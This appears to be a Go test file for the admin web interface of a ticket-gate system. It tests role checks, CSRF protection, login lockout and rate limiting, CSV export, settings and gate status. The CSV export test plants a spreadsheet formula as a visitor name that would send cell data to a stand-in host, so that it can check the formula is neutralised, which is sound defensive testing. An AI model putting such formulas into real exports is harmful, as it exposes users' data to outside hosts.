package app

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"
	"google.golang.org/protobuf/proto"

	"github.com/scenicgate/scenicgate/admin/store"
	"github.com/scenicgate/scenicgate/internal/bus"
	"github.com/scenicgate/scenicgate/internal/signed"
	"github.com/scenicgate/scenicgate/internal/site"
	"github.com/scenicgate/scenicgate/proto/sgpb"
)

func TestRolesAreEnforced(t *testing.T) {
	e := newEnv(t, envOptions{})
	e.addUser("viewer1", store.Viewer, "viewer-pass")
	e.addUser("op1", store.Operator, "operator-pass")
	viewer, op := e.client(), e.client()
	viewer.mustLogin("viewer1", "viewer-pass")
	op.mustLogin("op1", "operator-pass")

	tests := []struct {
		name string
		c    *client
		path string
		form url.Values
	}{
		{"viewer revokes", viewer, "/tickets/T1/revoke", url.Values{"reason": {"refund"}}},
		{"viewer erases", viewer, "/tickets/T1/erase", url.Values{"reason": {"asked"}}},
		{"viewer opens a gate", viewer, "/gates/command", url.Values{"gate": {"lane-1"}, "kind": {"open"}, "reason": {"x"}}},
		{"viewer resolves a conflict", viewer, "/conflicts/1/resolve", url.Values{"note": {"x"}}},
		{"operator saves settings", op, "/settings", url.Values{"daily_capacity": {"10"}, "time_zone": {"UTC"}, "warn_percent": {"80"}}},
		{"operator adds a user", op, "/users", url.Values{"name": {"mallory"}, "role": {"admin"}, "password": {"12345678"}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tc.form.Set("csrf", tc.c.csrf("/"))
			if a := tc.c.post(tc.path, tc.form); a.status != http.StatusForbidden {
				t.Errorf("POST %s = %s; want 403", tc.path, fmtAnswer(a))
			}
		})
	}
	if a := op.get("/users"); a.status != http.StatusForbidden {
		t.Errorf("operator GET /users = %d; want 403", a.status)
	}
	rows, _, err := e.admin.Store().Audit(context.Background(), store.AuditFilter{Action: "denied"})
	if err != nil || len(rows) != len(tests)+1 {
		t.Errorf("audit has %d denied rows (%v); want %d", len(rows), err, len(tests)+1)
	}
	if _, err := e.admin.Store().UserByName(context.Background(), "mallory"); err == nil {
		t.Error("the operator's user was created")
	}
}

func TestPostsNeedTheCSRFToken(t *testing.T) {
	e := newEnv(t, envOptions{})
	e.addUser("op1", store.Operator, "operator-pass")
	c := e.client()
	c.mustLogin("op1", "operator-pass")
	token := c.csrf("/gates")
	form := url.Values{"gate": {"lane-9"}, "kind": {"open"}, "reason": {"wheelchair"}}

	if a := c.post("/gates/command", form); a.status != http.StatusForbidden {
		t.Errorf("without a token: %s; want 403", fmtAnswer(a))
	}
	form.Set("csrf", token+"x")
	if a := c.post("/gates/command", form); a.status != http.StatusForbidden {
		t.Errorf("with a wrong token: %s; want 403", fmtAnswer(a))
	}
	if a := c.post("/logout", url.Values{}); a.status != http.StatusForbidden {
		t.Errorf("logout without a token: %s; want 403", fmtAnswer(a))
	}
	if a := c.get("/"); a.status != http.StatusOK {
		t.Errorf("after a refused logout the session is gone: %d", a.status)
	}
	// A script sends the token in a header; the request then gets as far
	// as the gate, which does not exist.
	form.Del("csrf")
	a := c.post("/gates/command", form, "X-CSRF-Token", token, "Accept", "application/json")
	if a.status != http.StatusOK || !strings.Contains(a.body, `"ok":false`) || !strings.Contains(a.body, "闸机没有响应") {
		t.Errorf("with the header: %s; want 200 with the gate unreachable", fmtAnswer(a))
	}
	// The login form has its own token, in a cookie.
	fresh := e.client()
	if a := fresh.post("/login", url.Values{"name": {"op1"}, "password": {"operator-pass"}}); a.status != http.StatusForbidden {
		t.Errorf("login without a token: %s; want 403", fmtAnswer(a))
	}
}

func TestLockoutAfterFiveWrongPasswords(t *testing.T) {
	var mu sync.Mutex
	now := time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC)
	e := newEnv(t, envOptions{})
	e.admin.SetClock(func() time.Time { mu.Lock(); defer mu.Unlock(); return now })
	e.addUser("op1", store.Operator, "right-password")
	c := e.client()
	for i := 1; i <= 5; i++ {
		a := c.login("op1", "wrong-password")
		locked := strings.Contains(a.body, "已被锁定")
		if a.status == http.StatusSeeOther || locked != (i == 5) {
			t.Fatalf("wrong password %d: %d, locked message %v", i, a.status, locked)
		}
	}
	if a := c.login("op1", "right-password"); a.status != http.StatusForbidden || !strings.Contains(a.body, "15 分钟") {
		t.Fatalf("right password while locked: %s; want 403 with the lock message", fmtAnswer(a))
	}
	mu.Lock()
	now = now.Add(14 * time.Minute)
	mu.Unlock()
	if a := c.login("op1", "right-password"); a.status != http.StatusForbidden {
		t.Fatalf("right password after 14 minutes: %d; want still locked", a.status)
	}
	mu.Lock()
	now = now.Add(2 * time.Minute)
	mu.Unlock()
	c.mustLogin("op1", "right-password")
	rows, _, _ := e.admin.Store().Audit(context.Background(), store.AuditFilter{Action: "login_failed"})
	if len(rows) != 7 {
		t.Errorf("%d failed logins audited; want 7", len(rows))
	}
}

func TestLoginRateLimitPerAddress(t *testing.T) {
	e := newEnv(t, envOptions{tune: func(c *Config) { c.Service.LoginAttempts = 3 }})
	e.addUser("op1", store.Operator, "right-password")
	c := e.client()
	for i := 0; i < 3; i++ {
		c.login("nobody", "x")
	}
	if a := c.login("op1", "right-password"); a.status != http.StatusTooManyRequests {
		t.Errorf("4th attempt: %d; want 429", a.status)
	}
}

func publishAdmission(t *testing.T, js jetstream.JetStream, a *sgpb.Admission) {
	t.Helper()
	b, _ := proto.Marshal(a)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, err := js.Publish(ctx, bus.AdmissionSubject(a.GateId), b, jetstream.WithMsgID(a.EventId)); err != nil {
		t.Fatal(err)
	}
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func TestExportCSV(t *testing.T) {
	e := newEnv(t, envOptions{})
	e.addUser("viewer1", store.Viewer, "viewer-pass")
	kv, _ := e.js.KeyValue(context.Background(), bus.BucketEntitlements)
	ent, _ := e.enrollKey.SignMessage(signed.Entitlement, &sgpb.Entitlement{TicketId: "T1", VisitorName: "赵六"}, time.Now())
	kv.Put(context.Background(), "T1", ent)
	// A ticket shop can name a visitor anything, a formula too.
	const hostile = `=HYPERLINK("http://example.invalid/?"&A1,"赵七")`
	ent, _ = e.enrollKey.SignMessage(signed.Entitlement, &sgpb.Entitlement{TicketId: "T2", VisitorName: hostile}, time.Now())
	kv.Put(context.Background(), "T2", ent)
	waitFor(t, "the mirror", func() bool {
		_, err1 := e.admin.Store().Entitlement(context.Background(), "T1")
		_, err2 := e.admin.Store().Entitlement(context.Background(), "T2")
		return err1 == nil && err2 == nil
	})
	at := time.Date(2026, 5, 1, 9, 30, 0, 0, time.FixedZone("CST", 8*3600))
	publishAdmission(t, e.js, &sgpb.Admission{EventId: "ev-1", GateId: "north-1", TicketId: "T1", Decision: sgpb.Decision_DECISION_ALLOW,
		Reason: "ok", Method: sgpb.Method_METHOD_FACE, Direction: sgpb.Direction_DIRECTION_ENTRY, AtMs: at.UnixMilli(), EntryNumber: 1, Distance: 0.31})
	publishAdmission(t, e.js, &sgpb.Admission{EventId: "ev-2", GateId: "north-1", Decision: sgpb.Decision_DECISION_DENY,
		Reason: "unknown", Method: sgpb.Method_METHOD_FACE, AtMs: at.AddDate(0, 0, 1).UnixMilli()})
	publishAdmission(t, e.js, &sgpb.Admission{EventId: "ev-3", GateId: "north-1", TicketId: "T2", Decision: sgpb.Decision_DECISION_ALLOW,
		Reason: "manual", Method: sgpb.Method_METHOD_MANUAL, Direction: sgpb.Direction_DIRECTION_ENTRY, AtMs: at.Add(time.Hour).UnixMilli(),
		Operator: "@staff", Note: "-1+1 wheelchair"})
	waitFor(t, "three admissions", func() bool { l, _ := e.admin.Store().RecentAdmissions(context.Background(), 5); return len(l) == 3 })

	c := e.client()
	c.mustLogin("viewer1", "viewer-pass")
	a := c.get("/export/admissions.csv?from=2026-05-01&to=2026-05-01")
	if a.status != http.StatusOK || !strings.HasPrefix(a.header.Get("Content-Type"), "text/csv") {
		t.Fatalf("export: %s", fmtAnswer(a))
	}
	if !strings.HasPrefix(a.body, "\uFEFF") {
		t.Error("the CSV lacks the UTF-8 byte order mark")
	}
	rows, err := csv.NewReader(bytes.NewReader([]byte(strings.TrimPrefix(a.body, "\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || rows[0][0] != "时间" || rows[1][0] != "2026-05-01 09:30:00" || rows[1][4] != "赵六" || rows[1][5] != "入园" || rows[1][7] != "ok" {
		t.Fatalf("CSV rows = %q; want the header, the admission of 赵六 at 09:30 and one at 10:30", rows)
	}
	// Cells that begin like a formula are shown as text.
	if got := rows[2]; got[4] != "'"+hostile || got[16] != "'@staff" || got[17] != "'-1+1 wheelchair" || got[6] != "人工开闸" {
		t.Errorf("CSV row of the manual open = %q; want the name, operator and note behind an apostrophe", got)
	}
	if a := c.get("/export/admissions.csv?from=2026-05-02&to=2026-05-01"); a.status != http.StatusBadRequest {
		t.Errorf("reversed range: %d; want 400", a.status)
	}
	audit, _, _ := e.admin.Store().Audit(context.Background(), store.AuditFilter{Action: "export"})
	if len(audit) != 1 || audit[0].Detail != "rows=2" || audit[0].Actor != "viewer1" {
		t.Errorf("export audit rows = %+v", audit)
	}
}

func TestSettingsReachTheSiteBucket(t *testing.T) {
	e := newEnv(t, envOptions{})
	e.addUser("boss", store.Admin, "admin-pass")
	c := e.client()
	c.mustLogin("boss", "admin-pass")
	form := url.Values{"csrf": {c.csrf("/settings")}, "daily_capacity": {"8000"}, "instant_capacity": {"3000"},
		"enforce_capacity": {"1"}, "warn_percent": {"75"}, "time_zone": {"Asia/Shanghai"}, "slot_early": {"10"}, "slot_late": {"20"},
		"passback_window": {"90"}}
	if a := c.post("/settings", form); a.status != http.StatusSeeOther {
		t.Fatalf("save: %s", fmtAnswer(a))
	}
	kv, _ := e.js.KeyValue(context.Background(), bus.BucketSite)
	got, err := site.LoadSettings(context.Background(), kv, e.admin.ingest.Trusted())
	if err != nil {
		t.Fatal(err)
	}
	want := site.Settings{TimeZone: "Asia/Shanghai", DailyCapacity: 8000, InstantCapacity: 3000, EnforceCapacity: true,
		WarnRatio: 0.75, SlotEarly: site.Duration(10 * time.Minute), SlotLate: site.Duration(20 * time.Minute),
		PassbackWindow: site.Duration(90 * time.Minute)}
	if got != want {
		t.Errorf("SITE settings = %+v; want %+v", got, want)
	}
	if a := c.get("/settings"); !strings.Contains(a.body, "设置已保存") {
		t.Error("no confirmation after saving")
	}
	form.Set("passback_window", "1441")
	c.post("/settings", form)
	if a := c.get("/settings"); !strings.Contains(a.body, "防回传时长须在 0 到 1440 分钟之间") {
		t.Error("a passback window over a day was not refused")
	}
	form.Set("passback_window", "90")
	form.Set("time_zone", "Mars/Olympus")
	c.post("/settings", form)
	if a := c.get("/settings"); !strings.Contains(a.body, "未知的时区") {
		t.Error("an unknown time zone was not reported")
	}
}

func TestGatesGoOfflineWithoutHeartbeats(t *testing.T) {
	var mu sync.Mutex
	now := time.Now()
	e := newEnv(t, envOptions{})
	e.admin.SetClock(func() time.Time { mu.Lock(); defer mu.Unlock(); return now })
	e.addUser("viewer1", store.Viewer, "viewer-pass")
	b, _ := proto.Marshal(&sgpb.GateStatus{GateId: "lane-7", Zone: "main", AtMs: now.UnixMilli(), Fps: 14.5, Relay: "ready", RelayOk: true})
	if err := e.nc.Publish(bus.StatusSubject("lane-7"), b); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the heartbeat", func() bool { g, _ := e.admin.Store().Gates(context.Background()); return len(g) == 1 })
	c := e.client()
	c.mustLogin("viewer1", "viewer-pass")
	if a := c.get("/gates/rows"); !strings.Contains(a.body, "lane-7") || !strings.Contains(a.body, "在线") {
		t.Errorf("fresh heartbeat: %s; want lane-7 online", fmtAnswer(a))
	}
	mu.Lock()
	now = now.Add(16 * time.Second)
	mu.Unlock()
	if a := c.get("/gates/rows"); !strings.Contains(a.body, "离线") {
		t.Errorf("16 s later: %s; want lane-7 offline", fmtAnswer(a))
	}
}

func TestUserCommand(t *testing.T) {
	dir := t.TempDir()
	ctx := context.Background()
	var out, errOut bytes.Buffer
	if err := UserCommand(ctx, []string{"add", "--data", dir, "--role", "admin", "--password", "s3cret-pass", "张经理"}, os.Stdin, &out, &errOut); err != nil {
		t.Fatal(err)
	}
	r, w, _ := os.Pipe()
	defer r.Close()
	defer w.Close()
	if err := UserCommand(ctx, []string{"add", "--data", dir, "guard"}, r, &out, &errOut); err == nil || !strings.Contains(err.Error(), "--password") {
		t.Errorf("add without --password and no terminal = %v; want an error naming --password", err)
	}
	if err := UserCommand(ctx, []string{"add", "--data", dir, "--role", "root", "--password", "s3cret-pass", "x"}, os.Stdin, &out, &errOut); err == nil {
		t.Error("add with role root succeeded")
	}
	if err := UserCommand(ctx, []string{"disable", "--data", dir, "张经理"}, os.Stdin, &out, &errOut); err != nil {
		t.Fatal(err)
	}
	out.Reset()
	if err := UserCommand(ctx, []string{"list", "--data", dir}, os.Stdin, &out, &errOut); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "张经理") || !strings.Contains(out.String(), "disabled") {
		t.Errorf("list = %q; want 张经理 disabled", out.String())
	}
}

func TestTicketPagesReportEnrollProblems(t *testing.T) {
	e := newEnv(t, envOptions{enroll: true})
	e.addUser("viewer1", store.Viewer, "viewer-pass")
	c := e.client()
	c.mustLogin("viewer1", "viewer-pass")
	tests := []struct {
		path   string
		status int
		want   string
	}{
		{"/tickets?q=%E6%97%A0%E6%AD%A4%E4%BA%BA", http.StatusOK, "没有找到匹配的门票"},
		{"/tickets/TNOSUCH", http.StatusNotFound, "没有找到这张门票"},
		{"/tickets/TNOSUCH?lang=en", http.StatusNotFound, "No such ticket"},
	}
	for _, tc := range tests {
		if a := c.get(tc.path); a.status != tc.status || !strings.Contains(a.body, tc.want) {
			t.Errorf("GET %s = %s; want %d with %q", tc.path, fmtAnswer(a), tc.status, tc.want)
		}
	}

	// An admin started without an enroll key says so instead of failing.
	bare := newEnv(t, envOptions{tune: func(c *Config) { c.EnrollKey = "" }})
	bare.addUser("viewer1", store.Viewer, "viewer-pass")
	bc := bare.client()
	bc.mustLogin("viewer1", "viewer-pass")
	if a := bc.get("/tickets?q=x"); a.status != http.StatusServiceUnavailable || !strings.Contains(a.body, "--enroll-key") {
		t.Errorf("search without enroll: %s; want 503 naming --enroll-key", fmtAnswer(a))
	}
}
